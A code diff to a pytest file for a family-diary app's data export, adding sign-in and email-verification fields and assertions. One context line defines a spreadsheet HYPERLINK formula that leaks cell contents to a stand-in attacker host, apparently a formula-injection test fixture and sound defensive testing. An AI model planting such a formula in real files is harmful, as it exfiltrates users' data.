@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 from sqlalchemy import ForeignKey, Integer, MetaData, String, Table, Column, func, select
 
+import clock
 import db
 from content import library
 from diary import accounts, invitations, registration
@@ -32,7 +33,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 #: The keys of data.json: the same for every role (viewers get empty family parts).
 DOCUMENT_KEYS = {"exported_at", "account", "families", "entries", "invitations_sent",
                  "data_exports", "saved_items", "email_preferences", "email_suppression",
-                 "inbox_messages", "deliveries", "email_clicks", "campaign_sends", "journeys"}
+                 "inbox_messages", "deliveries", "email_clicks", "campaign_sends", "journeys",
+                 "sign_ins", "account_emails"}
 
 
 def join(session, owner, family, user, role, relationship="other"):
@@ -47,6 +49,7 @@ def familyless(session, email):
         email=email, password=PASSWORD, profile=accounts.Profile(display_name=email[:5]),
         relationship="other", child_data_consent=True, digest_opt_in=False,
         marketing_opt_in=False, child=None), "test")
+    done.user.email_verified_at = clock.utcnow()  # joining a family waits for a proven address
     session.commit()
     return done.user
 
@@ -151,6 +154,9 @@ def test_an_owner_gets_the_family_diary_and_every_personal_section(household, cl
     assert {i["email"] for i in document["invitations_sent"]} == {"editor@example.com",
                                                                   "viewer@example.com"}
     assert len(document["data_exports"]) == 1  # this export
+    assert document["sign_ins"] and set(document["sign_ins"][0]) == {
+        "created_at", "expires_at", "last_seen_at", "revoked_at", "remember", "user_agent"}
+    assert document["account"]["email_verified_at"] is not None
     readme = archive.read("README.txt").decode()
     assert "entries.csv" in readme and "photos/" in readme
 
